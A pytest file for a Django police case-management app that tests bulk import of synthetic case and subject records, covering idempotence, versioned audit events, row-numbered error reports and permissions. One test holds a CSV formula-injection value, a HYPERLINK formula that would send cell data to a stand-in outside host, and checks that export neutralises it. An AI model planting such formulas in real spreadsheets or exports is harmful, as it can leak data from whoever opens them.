"""Bulk import: idempotent by external reference, versioned and audited changes, bad rows
reported by number with valid rows applied (issue 17's done-when lines)."""

from __future__ import annotations

from typing import Any

import pytest
from django.core.exceptions import PermissionDenied

from desist.audit.models import AuditEvent
from desist.cases.models import Case
from desist.core import safecsv
from desist.imports import engine, reader, synthetic
from desist.imports.report import error_report
from desist.people.models import Subject

RECORD_TYPES = ("people.Subject", "cases.Case")


def _run(actor: Any, items: list[dict[str, Any]], **kw: Any) -> engine.Outcome:
    rows = reader.read(synthetic.as_csv(items), "csv", "generic")
    return engine.import_rows(
        actor=actor, force=actor.organisation, source="generic", rows=rows, **kw
    )


def _record_events() -> int:
    return AuditEvent.objects.filter(object_type__in=RECORD_TYPES).count()


@pytest.mark.django_db(transaction=False)
def test_same_10000_rows_twice_changes_nothing_the_second_time(supervisor: Any) -> None:
    items = list(synthetic.rows(10_000))
    first = _run(supervisor, items)
    assert first.counts()["created"] == 10_000
    assert first.cases_created == 10_000
    assert first.subjects_created == 10_000 // synthetic.CASES_PER_SUBJECT + 1
    assert first.problems == []
    events = _record_events()
    assert events == first.cases_created + first.subjects_created
    versions = dict(Case.objects.values_list("pk", "version"))

    second = _run(supervisor, items)

    assert second.counts() == {
        "rows": 10_000,
        "created": 0,
        "updated": 0,
        "unchanged": 10_000,
        "errors": 0,
        "subjects_created": 0,
        "subjects_updated": 0,
        "cases_created": 0,
        "cases_updated": 0,
    }
    assert _record_events() == events  # no audit event of change (nor of creation)
    assert dict(Case.objects.values_list("pk", "version")) == versions
    assert Case.objects.count() == 10_000


def test_a_changed_row_updates_bumps_the_version_and_audits_field_names(supervisor: Any) -> None:
    items = list(synthetic.rows(6))
    _run(supervisor, items)
    case = Case.objects.get(external_ref="C00000004")
    subject = case.subject
    items[4]["summary"] = "Synthetic: a new summary"
    items[4]["reported_date"] = "09/01/2020"
    items[3]["last_name"] = items[4]["last_name"] = items[5]["last_name"] = "Renamed"

    outcome = _run(supervisor, items)

    assert (outcome.cases_updated, outcome.subjects_updated) == (1, 1)
    # Row 5 (the subject's first row: its change) and row 6 (its case); row 7 is as it was.
    assert outcome.counts()["updated"] == 2 and outcome.counts()["unchanged"] == 4
    case.refresh_from_db()
    subject.refresh_from_db()
    assert (case.version, subject.version) == (2, 2)
    assert case.summary == "Synthetic: a new summary"
    assert subject.last_name == "Renamed" and subject.name_search.endswith("renamed")
    edit = AuditEvent.objects.get(verb="case.edit", object_id=str(case.pk))
    assert edit.new_values["changed"] == ["opened_on", "summary"]
    assert "Synthetic: a new summary" not in str(edit.new_values)  # names, not values
    update = AuditEvent.objects.get(verb="subject.update", object_id=str(subject.pk))
    assert update.new_values["fields"] == ["last_name"]
    assert update.old_values == {"version": 1} and update.new_values["version"] == 2
    assert "Renamed" not in str(update.new_values)


def test_100_bad_rows_among_10000_apply_the_good_and_report_the_bad(supervisor: Any) -> None:
    items = list(synthetic.rows(10_000))
    bad_at = set(range(37, 10_000, 100))
    assert len(bad_at) == 100
    for i in bad_at:
        items[i]["reported_date"] = "31/02/2021"  # no such day
    outcome = _run(supervisor, items)

    assert outcome.cases_created == 9_900
    assert Case.objects.count() == 9_900
    assert outcome.counts()["errors"] == 100
    # CSV rows: the headings are row 1, so item i is row i + 2.
    assert [p.row for p in outcome.problems] == sorted(i + 2 for i in bad_at)
    first = outcome.problems[0]
    assert first.message == ("Row 39: The date it was reported must be a real date, like 27 3 1985")
    report = safecsv.marked_rows(error_report(outcome.problems))
    assert report[0] == ["Row", "Case reference", "Field", "Reason"]
    assert report[1] == [
        "39",
        "C00000037",
        "the date it was reported",
        "The date it was reported must be a real date, like 27 3 1985",
    ]
    assert len(report) == 101


def test_the_pages_rules_apply_row_by_row(supervisor: Any) -> None:
    items = list(synthetic.rows(5))
    items[0]["date_of_birth"] = "27 3 2999"
    items[1]["pnc_number"] = "2019/0000001A"  # wrong check letter
    items[2]["first_names"] = ""
    items[3]["offence_date"] = "10/01/2026"
    items[3]["reported_date"] = "09/01/2026"
    outcome = _run(supervisor, items)
    messages = [p.message for p in outcome.problems]
    assert messages == [
        "Row 2: The date of birth must be today or in the past",
        "Row 3: Enter a real PNC number: the check letter does not match",
        "Row 4: Enter the subject's first names",
        "Row 5: The offence date must be the same as or before the date it was reported",
    ]
    assert outcome.cases_created == 1


def test_in_file_and_in_force_clashes_are_row_errors(supervisor: Any) -> None:
    from desist.people.tests.factories import make_subject

    items = list(synthetic.rows(4))
    make_subject(supervisor, pnc_number=items[0]["pnc_number"])  # typed on the pages
    items[2]["first_names"] = "Different"  # same person's reference as rows 2 and 3
    items[3]["crime_reference"] = items[1]["crime_reference"]
    outcome = _run(supervisor, items)
    assert [(p.row, p.field) for p in outcome.problems] == [
        (2, "pnc_number"),
        (3, "pnc_number"),  # the same person's second case
        (4, "subject_ref"),
        (5, "crime_reference"),
    ]
    assert "already recorded in your force" in outcome.problems[0].reason
    assert "differ from row 2" in outcome.problems[2].reason


def test_dry_run_counts_and_writes_nothing(supervisor: Any) -> None:
    outcome = _run(supervisor, list(synthetic.rows(9)), dry_run=True)
    assert outcome.counts()["created"] == 9
    assert not Case.objects.exists() and not Subject.objects.exists()
    assert _record_events() == 0


def test_surrey_supervisor_cannot_import_into_sussex(supervisor: Any, orgs: Any) -> None:
    rows = reader.read(synthetic.as_csv(list(synthetic.rows(3))), "csv", "generic")
    with pytest.raises(PermissionDenied):
        engine.import_rows(
            actor=supervisor, force=orgs["other_police_force"], source="generic", rows=rows
        )
    assert not Case.objects.exists()


def test_officers_cannot_import(users: Any) -> None:
    from desist.core.roles import RoleCode

    officer = users[RoleCode.POLICE_OFFICER]
    rows = reader.read(synthetic.as_csv(list(synthetic.rows(3))), "csv", "generic")
    with pytest.raises(PermissionDenied):
        engine.import_rows(actor=officer, force=officer.organisation, source="generic", rows=rows)


def test_a_formula_in_a_cell_is_neutralised_in_the_error_report(supervisor: Any) -> None:
    items = list(synthetic.rows(2))
    items[1]["case_ref"] = '=HYPERLINK("http://example.invalid/?"&B2,"Click")'
    outcome = _run(supervisor, items)
    report = error_report(outcome.problems)
    cells = safecsv.marked_rows(report)[1]  # the report is marked, as every export (ADR 0030)
    assert cells[1] == "'" + items[1]["case_ref"]
    assert cells[3] == "The case's reference must be 40 characters or fewer"


def test_json_rows_are_numbered_from_one(supervisor: Any) -> None:
    items = list(synthetic.rows(3, source="athena"))
    items[2]["Date of Birth"] = "not a date"
    rows = reader.read(synthetic.as_json(items), "json", "athena")
    outcome = engine.import_rows(
        actor=supervisor, force=supervisor.organisation, source="athena", rows=rows
    )
    assert [p.message for p in outcome.problems] == [
        "Row 3: The date of birth must be a real date, like 27 3 1985"
    ]


@pytest.mark.parametrize(
    ("data", "fmt", "source", "message"),
    [
        (b"\xff\xfe\x00bad", "csv", "generic", "save it as UTF-8"),
        (b'{"a": 1}', "json", "generic", "JSON list of objects"),
        (b"[", "json", "generic", "could not be read as JSON"),
        (b"Nominal ID\n", "csv", "niche", "no rows to import"),
        (b"Nominal ID,Surname\nN1,X\n", "csv", "niche", "no column called “Forenames”"),
    ],
)
def test_unreadable_files_say_why(data: bytes, fmt: str, source: str, message: str) -> None:
    with pytest.raises(reader.Unreadable, match=message):
        reader.read(data, fmt, source)
